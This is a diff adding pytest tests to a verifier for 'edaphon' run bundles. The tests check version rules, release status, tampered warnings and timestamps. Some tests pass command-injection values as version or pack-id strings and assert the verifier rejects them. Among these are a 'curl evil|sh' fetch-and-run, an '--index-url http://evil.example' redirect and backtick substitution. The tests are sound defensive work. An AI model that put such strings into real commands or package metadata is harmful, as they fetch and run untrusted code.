@@ -69,11 +69,11 @@ def codes(found, *verdicts):
     }
 
 
-def other_program(folder):
+def other_program(folder, version="0.0.9"):
     """Let another program have made the bundle."""
     (folder / CODE).write_bytes((folder / CODE).read_bytes() + b"\n")
     code = digest((folder / CODE).read_bytes())
-    edited(folder, RUN, lambda run: run["program"].update(code=code, version="0.0.9"))
+    edited(folder, RUN, lambda run: run["program"].update(code=code, version=version))
 
 
 def other_method(folder):
@@ -128,6 +128,156 @@ def test_times_and_host_are_nobody_elses(folder):
     edited(folder, RUN, lambda run: run.update(python="3.99", numpy="9"))
 
     assert replayed(folder).passed()
+
+
+@pytest.mark.parametrize(
+    ("version", "fails"), [("0.2.0", True), ("9.1.dev3", True), ("0.1.0", False)]
+)
+def test_rules_older_than_the_version_writes_fail(folder, version, fails):
+    edited(folder, RUN, lambda run: run.update(reading_rules="edaphon.reading/1"))
+    other_program(folder, version)
+
+    found = replayed(folder)
+
+    assert codes(found, "failed") == ({(6, "RULES_OLDER")} if fails else set())
+
+
+def test_another_program_that_calls_itself_final_is_not_checked(folder):
+    edited(folder, RUN, lambda run: run.update(draft=False))
+    other_program(folder)
+
+    found = replayed(folder)
+
+    assert (6, "FORMS_RELEASED") in codes(found, "not_checked")
+    assert not found.passed()
+
+
+def test_a_pack_of_edaphon_is_released_by_edaphon_alone(folder):
+    for place in (0, 1):
+        account(folder, place, lambda one: one["method"].update(draft=False))
+    edited(folder, RUN, lambda run: run.update(draft=False))
+    other_program(folder)
+
+    found = replayed(folder)
+
+    assert (8, "METHOD_RELEASED") in codes(found, "not_checked")
+    assert "METHOD_STATUS" not in {item.code for item in found.findings}
+    assert found.method == "same"
+    assert found.draft
+    assert not found.passed()
+
+
+INVENTED = {
+    "code": "VALUE_ZERO",
+    "facts": {"property": "checked by the Ministry"},
+    "where": {"file": "lab/x.csv", "row": 1},
+}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda run: run.pop("warnings"),
+        lambda run: run.update(warnings=[]),
+        lambda run: run["warnings"].pop(),
+        lambda run: run["warnings"].reverse(),
+        lambda run: run["warnings"].append(INVENTED),
+        lambda run: run["warnings"][0].update(code="ALL_GOOD"),
+        lambda run: run["warnings"][0].update(facts={}),
+        lambda run: run["warnings"][0]["where"].update(row=999),
+    ],
+)
+def test_warnings_are_those_that_the_files_give(folder, change):
+    edited(folder, RUN, change)
+
+    found = replayed(folder)
+
+    assert codes(found, "failed") == {(7, "WARNINGS_DIFFER")}
+    assert found.figures == "identical"
+
+
+def test_warnings_of_another_program_are_named_and_accuse_nobody(folder):
+    edited(folder, RUN, lambda run: run["warnings"].append(INVENTED))
+    other_program(folder)
+
+    found = replayed(folder)
+
+    assert not found.failed
+    assert (7, "WARNINGS_ELSEWHERE") in codes(found, "not_checked")
+    (told,) = [item for item in found.findings if item.code == "WARNINGS_ELSEWHERE"]
+    assert "VALUE_ZERO lab/x.csv, 1" in told.text("en")
+    assert "VALUE_ZERO lab/x.csv, 1" in told.text("zh")
+
+
+def test_reports_are_not_made_of_warnings_that_the_files_do_not_give(folder):
+    given = []
+
+    def reports(records):
+        given.append(json.loads(records[RUN])["warnings"])
+        return stand_in(records)
+
+    edited(folder, RUN, lambda run: run["warnings"].append(INVENTED))
+    recrated(folder)
+    verify(relisted(folder), reports=reports)
+
+    assert given
+    assert INVENTED not in given[0]
+
+
+@pytest.mark.parametrize(
+    "version",
+    [
+        "0.1.0 --index-url http://evil.example", "0.1.0;curl evil|sh", "0.1.0`x`",
+        "latest", "", "0.1.0\n", "0.1.0+" + "a" * 200, "../x",
+    ],
+)  # fmt: skip
+def test_a_version_is_no_place_for_a_command(folder, version):
+    other_program(folder, version)
+
+    found = replayed(folder)
+
+    assert codes(found, "failed") == {(4, "RECORD_FORM")}
+
+
+def test_a_version_of_another_form_is_no_place_for_a_command_either(folder):
+    other_program(folder, "0.1.0 --index-url http://evil.example")
+    edited(folder, RUN, lambda run: run.update(v="edaphon.run/1"))
+
+    found = replayed(folder)
+
+    (told,) = [item for item in found.findings if item.code == "RECORD_VERSION"]
+    assert "evil" not in told.text("en") + told.text("zh") + found.version
+
+
+@pytest.mark.parametrize("pack", ["x (`curl evil`)", "frozen.pair/1.0 --index-url x"])
+def test_an_id_of_a_pack_is_no_place_for_a_command(folder, pack):
+    packs = [{"id": pack, "code": "sha256:" + 64 * "0"}]
+    edited(folder, RUN, lambda run: run["program"].update(packs=packs))
+
+    assert codes(replayed(folder), "failed") == {(4, "RECORD_FORM")}
+
+
+def test_the_same_program_writes_no_other_form(folder):
+    edited(folder, RUN, lambda run: run.update(v="edaphon.run/1"))
+
+    found = replayed(folder)
+
+    assert codes(found, "failed") == {(4, "RECORD_NOT_ITS_OWN")}
+    (told,) = [item for item in found.findings if item.step == 4]
+    assert "nstall" not in told.text("en")
+
+
+@pytest.mark.parametrize(
+    ("moment", "code"),
+    [
+        ("2024-10-19T09:59:59Z", "RUN_BEFORE_PERIOD_END"),
+        ("2021-08-01T00:00:00Z", "RUN_BEFORE_SEAL"),
+    ],
+)
+def test_an_account_is_not_of_before_its_period(folder, moment, code):
+    edited(folder, RUN, lambda run: run.update(generated_at=moment))
+
+    assert (7, code) in codes(replayed(folder), "failed")
 
 
 # --- Units --------------------------------------------------------------------
